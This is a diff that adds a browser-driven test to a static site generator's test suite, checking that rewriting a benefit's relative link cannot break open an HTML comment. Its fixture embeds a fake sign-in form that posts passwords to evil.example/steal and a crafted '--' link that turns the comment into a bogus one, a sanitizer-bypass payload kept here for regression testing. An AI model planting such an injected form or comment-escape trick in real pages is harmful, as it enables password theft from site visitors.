@@ -271,3 +271,27 @@ def test_a_body_that_starts_with_indented_code_is_checked_as_the_page_shows_it(b
         forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
         page.close()
     assert not forms, f"a form posting elsewhere: {forms}"
+
+
+def test_rewriting_a_benefit_s_links_cannot_open_a_comment_the_check_saw_closed(browser, tmp_path):
+    """A benefit's relative link is rewritten where its address's text first occurs: for the
+    address '--' that is inside the comment opener before it, which becomes '<!teams/it/--', a
+    bogus comment that ends at the next '>'. The form the check saw inside a comment is live on
+    the benefits page, posting passwords to another site."""
+    site = built(tmp_path, {"content/teams/it/benefits.yml": """\
+        benefits:
+          - id: laptop
+            name: Home laptop
+            category: Equipment
+            summary: A laptop for home.
+            eligibility:
+              notes: Everyone.
+            how_to_claim: |
+              Ask us. <!-- ><form action="https://evil.example/steal"><input type="password" name="pw"><button>Sign in</button></form> --> See [the form](--).
+        """})
+    with serve_directory(site) as origin:
+        page = browser.new_page()
+        page.goto(f"{origin}/benefits/")
+        forms = page.evaluate("() => [...document.forms].map(f => f.action).filter(a => a.includes('evil.example'))")
+        page.close()
+    assert not forms, f"a form posting elsewhere: {forms}"
